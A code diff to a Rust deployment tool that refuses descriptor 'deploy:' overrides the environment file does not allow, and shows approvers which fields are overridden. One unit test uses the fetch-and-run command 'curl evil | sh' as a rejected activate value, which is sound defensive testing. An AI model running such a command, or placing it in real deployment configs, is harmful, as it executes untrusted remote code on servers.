@@ -65,6 +65,7 @@ impl EffectiveDescriptor {
     /// Refused: `remote-copy` without `dest`, `command` without commands.
     pub fn build(descriptor: &Descriptor, env: &EnvironmentFile) -> Result<Self, ModelError> {
         let overrides = descriptor.deploy.clone().unwrap_or_default();
+        refuse_unallowed_overrides(descriptor, &overrides, env)?;
         let plugin = overrides
             .plugin
             .clone()
@@ -115,6 +116,16 @@ impl EffectiveDescriptor {
         };
         effective.check()?;
         Ok(effective)
+    }
+
+    /// The `deploy:` fields this deploy takes from its descriptor rather than its environment
+    /// file: what an approver must see besides the artifacts.
+    pub fn overridden_fields(descriptor: &Descriptor) -> Vec<&'static str> {
+        descriptor
+            .deploy
+            .as_ref()
+            .map(set_override_keys)
+            .unwrap_or_default()
     }
 
     fn check(&self) -> Result<(), ModelError> {
@@ -226,6 +237,52 @@ pub fn expand_dest(
     )
 }
 
+/// The `deploy:` keys a descriptor sets, in [`crate::OVERRIDABLE_KEYS`] order.
+fn set_override_keys(o: &crate::descriptor::DeployOverrides) -> Vec<&'static str> {
+    let set = [
+        o.plugin.is_some(),
+        o.dest.is_some(),
+        o.activate.is_some(),
+        o.commands.is_some(),
+        o.params.is_some(),
+    ];
+    crate::OVERRIDABLE_KEYS
+        .iter()
+        .zip(set)
+        .filter_map(|(key, set)| set.then_some(*key))
+        .collect()
+}
+
+/// Refuses a descriptor that sets a `deploy:` key its environment file does not list in
+/// `overrides:`, naming the first such key.
+fn refuse_unallowed_overrides(
+    descriptor: &Descriptor,
+    overrides: &crate::descriptor::DeployOverrides,
+    env: &EnvironmentFile,
+) -> Result<(), ModelError> {
+    let Some(key) = set_override_keys(overrides)
+        .into_iter()
+        .find(|key| !env.allows_override(key))
+    else {
+        return Ok(());
+    };
+    let allowed = match &env.overrides {
+        Some(keys) if keys.is_empty() => "no deploy: key".to_owned(),
+        Some(keys) => keys.join(", "),
+        None => crate::DEFAULT_OVERRIDES.join(", "),
+    };
+    Err(ModelError::EffectiveInvalid {
+        application: descriptor.application.clone(),
+        environment: descriptor.environment.clone(),
+        field: format!("deploy.{key}"),
+        message: format!(
+            "the environment file lets a descriptor set only {allowed} (its overrides: list); \
+             remove deploy.{key} from the descriptor, or ask an operator to add `{key}` to \
+             overrides: in the environment file"
+        ),
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -253,6 +310,7 @@ checks:
   - {type: command, command: \"test -e /opt\", expect_exit: 0, retries: 1}
 rollout: {waves: [[web-2], [web-1]], pause: 1m}
 approval: {approvers: [alice]}
+overrides: [plugin, dest, activate, commands, params]
 ";
 
     fn descriptor(extra: &str) -> Descriptor {
@@ -352,6 +410,32 @@ approval: {approvers: [alice]}
     }
 
     #[test]
+    fn a_descriptor_sets_only_the_deploy_keys_its_environment_lists() {
+        let env_default = "targets: [{name: a, host: a}]\ndeploy: {dest: /srv}\n";
+        check(
+            "deploy: {params: {x: 1}}\n",
+            env_default,
+            expect![[r#"
+                plugin=remote-copy dest=Some("/srv") activate=None commands=[] params={"x":1}
+                version=2.1 dry_run=false deps=[]"#]],
+        );
+        check(
+            "deploy: {activate: \"curl evil | sh\"}\n",
+            env_default,
+            expect![[
+                r#"ml/trainer/prod: deploy.activate: the environment file lets a descriptor set only params (its overrides: list); remove deploy.activate from the descriptor, or ask an operator to add `activate` to overrides: in the environment file"#
+            ]],
+        );
+        check(
+            "deploy: {params: {x: 1}}\n",
+            "targets: [{name: a, host: a}]\ndeploy: {dest: /srv}\noverrides: []\n",
+            expect![[
+                r#"ml/trainer/prod: deploy.params: the environment file lets a descriptor set only no deploy: key (its overrides: list); remove deploy.params from the descriptor, or ask an operator to add `params` to overrides: in the environment file"#
+            ]],
+        );
+    }
+
+    #[test]
     fn refusals() {
         check(
             "",
@@ -362,14 +446,14 @@ approval: {approvers: [alice]}
         );
         check(
             "deploy: {plugin: command}\n",
-            "targets: [{name: a, host: a}]\n",
+            "targets: [{name: a, host: a}]\noverrides: [plugin]\n",
             expect![[
                 r#"ml/trainer/prod: deploy.commands: the command plugin needs commands to run; set deploy.commands in the environment file or the descriptor"#
             ]],
         );
         check(
             "deploy: {dest: /srv}\n",
-            "targets: [{name: a, host: a}]\n",
+            "targets: [{name: a, host: a}]\noverrides: [dest]\n",
             expect![[r#"
                 plugin=remote-copy dest=Some("/srv") activate=None commands=[] params=
                 version=2.1 dry_run=false deps=[]"#]],
